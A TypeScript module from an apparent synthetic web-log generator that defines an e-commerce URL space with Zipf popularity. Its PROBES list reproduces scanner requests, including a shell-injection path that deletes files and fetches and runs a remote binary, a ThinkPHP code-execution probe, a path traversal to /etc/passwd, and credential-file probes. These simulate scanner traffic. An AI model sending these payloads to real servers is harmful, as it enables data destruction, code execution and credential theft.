/**
 * The generator's URL space: about 2,000 paths (static assets, pages, API endpoints with id
 * slots and query strings, feeds) requested with Zipf popularity, plus the probe paths that
 * vulnerability scanners try. Each path carries its typical size, latency and method mix.
 */
import { createAliasTable, zipfWeights, type AliasTable } from './alias-table.js';
import type { Prng } from './prng.js';
import { createQueryPools } from './query-strings.js';

/** What a path serves; drives status, size, latency and upstream timings. */
export type PathKind = 'static' | 'page' | 'api' | 'feed' | 'probe';

/** One path of the URL space. */
export interface PathEntry {
  readonly kind: PathKind;
  /** Percent-encoded path up to the id slot (the whole path when `idMax` is 0). */
  readonly prefix: string;
  /** Text after the id slot. */
  readonly suffix: string;
  /** Ids are drawn from 1..idMax; 0 means the path has no id slot. */
  readonly idMax: number;
  /** Query strings to append (without `?`), or null. */
  readonly queries: readonly string[] | null;
  /** Probability that a request carries one of `queries`. */
  readonly queryRate: number;
  /** Methods used on this path; `methodTable` picks among them (null: always the first). */
  readonly methods: readonly string[];
  readonly methodTable: AliasTable | null;
  /** Typical 200 response body size in bytes. */
  readonly bytes: number;
  /** True when every 200 response has exactly `bytes` (files on disk). */
  readonly fixedSize: boolean;
  /** Typical processing time in milliseconds. */
  readonly timeMs: number;
}

/** The URL space and its sampler. */
export interface PathPool {
  /** Paths in popularity order (index 0 is the most requested). */
  readonly paths: readonly PathEntry[];
  readonly table: AliasTable;
  /** Paths scanners probe; always answered 404 or 403. */
  readonly probes: readonly PathEntry[];
  /** `/robots.txt` and sitemaps, which crawlers fetch more often than the Zipf rank says. */
  readonly crawlerPaths: readonly PathEntry[];
}

const ADJ = ['classic', 'urban', 'alpine', 'cozy', 'swift', 'vintage', 'eco', 'bold', 'nordic', 'pure', 'smart', 'tiny'];
const NOUN = ['sneaker', 'parka', 'mug', 'lamp', 'backpack', 'watch', 'blanket', 'kettle', 'jacket', 'sofa', 'caf%C3%A9-cup', 'notebook'];
const JS = ['app', 'vendor', 'runtime', 'checkout', 'product', 'search', 'analytics', 'polyfills', 'chunk-cart', 'chunk-account'];
const CSS = ['main', 'vendor', 'checkout', 'print', 'product'];
const FONTS = ['inter-400', 'inter-600', 'inter-700', 'merriweather-400', 'icons'];
const PROBES = [
  '/wp-login.php', '/.env', '/.git/config', '/xmlrpc.php', '/phpmyadmin/index.php', '/wp-admin/setup-config.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/luci/;stok=/locale', '/admin/config.php',
  '/.aws/credentials', '/server-status', '/actuator/env', '/boaform/admin/formLogin', '/HNAP1/', '/owa/auth/logon.aspx',
  '/.DS_Store', '/config.json', '/api/.env', '/wp-content/plugins/revslider/temp/update_extract/revslider/',
  '/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=md5&vars%5B1%5D%5B%5D=HelloThinkPHP',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://0.0.0.0/jaws;sh+/tmp/jaws', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
];

interface Draft {
  kind: PathKind;
  path: string;
  idMax?: number;
  suffix?: string;
  queries?: readonly string[];
  queryRate?: number;
  methods?: readonly [string, number][];
  bytes: number;
  fixed?: boolean;
  timeMs: number;
}

const hash8 = (rng: Prng): string => (rng.nextU32() >>> 0).toString(16).padStart(8, '0');

function drafts(rng: Prng): { head: Draft[]; rest: Draft[]; crawler: Draft[] } {
  const q = createQueryPools(rng);
  const size = (base: number): number => Math.round(base * (0.4 + rng.next() * 1.2));
  const head: Draft[] = [
    { kind: 'page', path: '/', queries: q.campaign, queryRate: 0.15, bytes: 48_000, timeMs: 60 },
    { kind: 'static', path: `/static/js/app.${hash8(rng)}.js`, bytes: 412_337, fixed: true, timeMs: 1 },
    { kind: 'static', path: `/static/css/main.${hash8(rng)}.css`, bytes: 88_412, fixed: true, timeMs: 1 },
    { kind: 'api', path: '/api/v1/events', methods: [['POST', 1]], bytes: 2, timeMs: 8 },
    { kind: 'static', path: '/favicon.ico', bytes: 15_086, fixed: true, timeMs: 0.5 },
    { kind: 'page', path: '/products', queries: q.listing, queryRate: 0.5, bytes: 72_000, timeMs: 120 },
    { kind: 'page', path: '/search', queries: q.search, queryRate: 0.97, bytes: 64_000, timeMs: 180 },
    { kind: 'api', path: '/api/v1/products/', idMax: 40_000, methods: [['GET', 95], ['PUT', 3], ['OPTIONS', 2]], bytes: 3_400, timeMs: 25 },
    { kind: 'api', path: '/api/v1/cart', methods: [['GET', 60], ['POST', 30], ['DELETE', 5], ['OPTIONS', 5]], bytes: 1_900, timeMs: 30 },
  ];
  const rest: Draft[] = [];
  for (const n of JS) rest.push({ kind: 'static', path: `/static/js/${n}.${hash8(rng)}.js`, bytes: size(180_000), fixed: true, timeMs: 1 });
  for (const n of CSS) rest.push({ kind: 'static', path: `/static/css/${n}.${hash8(rng)}.css`, bytes: size(40_000), fixed: true, timeMs: 1 });
  for (const n of FONTS) rest.push({ kind: 'static', path: `/static/fonts/${n}.woff2`, bytes: size(30_000), fixed: true, timeMs: 1 });
  for (let i = 1; i <= 880; i++) rest.push({ kind: 'static', path: `/images/products/${10_000 + i}${rng.next() < 0.5 ? '.webp' : '.jpg'}`, bytes: size(90_000), fixed: true, timeMs: 2 });
  for (let i = 1; i <= 60; i++) rest.push({ kind: 'static', path: `/images/ui/icon-${i}.svg`, bytes: size(2_500), fixed: true, timeMs: 0.5 });
  for (let i = 1; i <= 420; i++) {
    const slug = `${ADJ[rng.int(ADJ.length)]}-${NOUN[rng.int(NOUN.length)]}-${i}`;
    rest.push({ kind: 'page', path: `/products/${slug}`, queries: q.campaign, queryRate: 0.05, bytes: size(55_000), timeMs: 90 });
  }
  for (let i = 1; i <= 280; i++) rest.push({ kind: 'page', path: `/blog/2026/${1 + rng.int(12)}/post-${i}`, queries: q.campaign, queryRate: 0.1, bytes: size(38_000), timeMs: 70 });
  for (const c of ['shoes', 'outdoor', 'kitchen', 'books', 'electronics', 'kids', 'garden', 'sale', 'new', 'gifts']) {
    rest.push({ kind: 'page', path: `/category/${c}`, queries: q.listing, queryRate: 0.4, bytes: size(60_000), timeMs: 110 });
  }
  for (let i = 1; i <= 40; i++) rest.push({ kind: 'page', path: `/help/topic-${i}`, bytes: size(20_000), timeMs: 40 });
  const forms: [string, number][] = [['GET', 60], ['POST', 40]];
  for (const p of ['/login', '/logout', '/account', '/account/orders', '/checkout', '/checkout/payment', '/contact', '/newsletter/subscribe', '/cart', '/about']) {
    rest.push({ kind: 'page', path: p, methods: forms, bytes: size(25_000), timeMs: 150 });
  }
  const resources = ['orders', 'users', 'reviews', 'wishlists', 'addresses', 'payments', 'shipments', 'coupons', 'stores', 'inventory', 'prices', 'categories'];
  const subs = ['', '/items', '/history', '/status', '/summary', '/related', '/comments', '/images', '/availability', '/audit', '/events', '/links', '/stats', '/export'];
  const crud: [string, number][] = [['GET', 85], ['POST', 7], ['PUT', 4], ['PATCH', 1], ['DELETE', 1], ['OPTIONS', 2]];
  for (const r of resources) {
    rest.push({ kind: 'api', path: `/api/v1/${r}`, queries: q.apiFilter, queryRate: 0.7, methods: crud, bytes: size(12_000), timeMs: 45 });
    for (const s of subs) rest.push({ kind: 'api', path: `/api/v1/${r}/`, idMax: 200_000, suffix: s, methods: crud, bytes: size(2_800), timeMs: 30 });
  }
  rest.push({ kind: 'api', path: '/api/v1/search', queries: q.search, queryRate: 1, bytes: 9_000, timeMs: 140 });
  rest.push({ kind: 'api', path: '/graphql', methods: [['POST', 92], ['GET', 8]], bytes: 6_000, timeMs: 60 });
  rest.push({ kind: 'api', path: '/api/health', bytes: 15, timeMs: 1 });
  rest.push({ kind: 'api', path: '/api/v2/recommendations', queries: q.apiFilter, queryRate: 0.5, bytes: 7_500, timeMs: 95 });
  const crawler: Draft[] = [
    { kind: 'feed', path: '/robots.txt', bytes: 412, fixed: true, timeMs: 0.5 },
    { kind: 'feed', path: '/sitemap.xml', bytes: 1_850, fixed: true, timeMs: 2 },
  ];
  for (let i = 1; i <= 12; i++) crawler.push({ kind: 'feed', path: `/sitemap-products-${i}.xml`, bytes: size(800_000), fixed: true, timeMs: 5 });
  crawler.push({ kind: 'feed', path: '/feed.xml', bytes: 96_000, timeMs: 20 });
  return { head, rest, crawler };
}

function entry(d: Draft): PathEntry {
  const methods = d.methods ?? [['GET', 1]];
  return Object.freeze({
    kind: d.kind,
    prefix: d.path,
    suffix: d.suffix ?? '',
    idMax: d.idMax ?? 0,
    queries: d.queries ?? null,
    queryRate: d.queryRate ?? 0,
    methods: methods.map(([m]) => m),
    methodTable: methods.length > 1 ? createAliasTable(methods.map(([, w]) => w)) : null,
    bytes: d.bytes,
    fixedSize: d.fixed ?? false,
    timeMs: d.timeMs,
  });
}

/** Builds the URL space deterministically from `rng`; popularity is Zipf with exponent `skew`. */
export function createPathPool(rng: Prng, skew = 1.05): PathPool {
  const { head, rest, crawler } = drafts(rng);
  for (let i = rest.length - 1; i > 0; i--) {
    const j = rng.int(i + 1);
    [rest[i], rest[j]] = [rest[j]!, rest[i]!];
  }
  const all = [...head, ...crawler.slice(0, 2), ...rest, ...crawler.slice(2)];
  const paths = Object.freeze(all.map(entry));
  return {
    paths,
    table: createAliasTable(zipfWeights(paths.length, skew)),
    probes: Object.freeze(PROBES.map((p) => entry({ kind: 'probe', path: p, bytes: 196, timeMs: 1 }))),
    crawlerPaths: Object.freeze(crawler.map(entry)),
  };
}
